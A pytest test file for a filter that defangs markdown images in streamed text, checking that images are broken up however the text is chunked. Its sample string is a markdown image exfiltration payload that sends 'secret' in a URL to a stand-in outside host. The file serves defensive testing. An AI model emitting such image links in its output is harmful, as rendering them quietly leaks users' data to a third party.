import pytest

from casebook.images import ImageFilter, without_images

LEAK = "See ![status](https://elsewhere.example/?q=secret) and ![by name][ref]."


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
def test_no_image_is_left_however_the_text_comes(size: int) -> None:
    passing = ImageFilter()

    shown = [passing.passed(LEAK[n : n + size]) for n in range(0, len(LEAK), size)]

    assert "".join(shown) + passing.rest() == (
        "See ! [status](https://elsewhere.example/?q=secret) and ! [by name][ref]."
    )


def test_a_text_without_images_is_left_as_it_is_to_its_last_mark() -> None:
    text = "It failed! [evd_1] Why? No idea!"

    assert without_images(text) == text


def test_an_exclamation_mark_waits_for_what_follows_it_and_nothing_else_does() -> None:
    passing = ImageFilter()

    assert [passing.passed("No!"), passing.passed(" Yes"), passing.rest()] == ["No", "! Yes", ""]
